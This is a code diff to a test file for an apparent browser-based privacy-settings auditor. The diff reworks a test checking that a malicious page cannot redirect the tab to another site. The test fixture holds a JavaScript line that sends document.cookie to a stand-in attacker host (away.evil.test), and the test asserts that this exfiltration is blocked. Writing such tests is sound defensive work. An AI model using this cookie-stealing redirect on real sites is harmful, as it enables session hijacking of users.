@@ -6,7 +6,7 @@ from traces import own_folder, program_in
 
 from auditor.demo import Answer, Scene
 from auditor.network import NetworkRules
-from auditor.settings import ORIGIN
+from auditor.settings import ORIGIN, catalog
 
 REDIRECTED = """
 fetch("/leads-to-a-write", {method: "POST", mode: "no-cors", body: "x"}).catch(() => 0);
@@ -87,11 +87,23 @@ def test_only_a_page_of_signing_in_that_has_come_opens_the_network(serve, script
     assert_kept(server, done)
 
 
-def test_the_settings_page_cannot_lead_the_tab_away(serve):
-    """A settings page that goes to another site, with what it knows, does not get there."""
-    script = "location.href = 'https://away.evil.test/?' + document.cookie;"
-    server, _, _ = audited(serve, page(script), elsewhere)
+def test_a_later_page_cannot_lead_the_tab_away(serve):
+    """Once a setting was read, a page that goes to another site does not get there."""
+    leads = page("location.href = 'https://away.evil.test/?' + document.cookie;")
+    research = catalog().settings["research"].path
+
+    def override(asked):
+        return Answer(leads) if asked.path == research else None
+
+    server = serve(Scene("x", signed_in=True), override)
+    with own_folder() as folder:
+        asked_for = ("audit", "ai-training", "research", "ads-age")
+        done = program_in(
+            folder, *asked_for, "--headless", "--browser", server.browser, "--json", "-"
+        )
     assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+    told = [result["state"] != "unknown" for result in done.report["results"]]
+    assert [True, False, True] == told
 
 
 def test_ways_that_ask_past_the_rules_are_gone(serve):
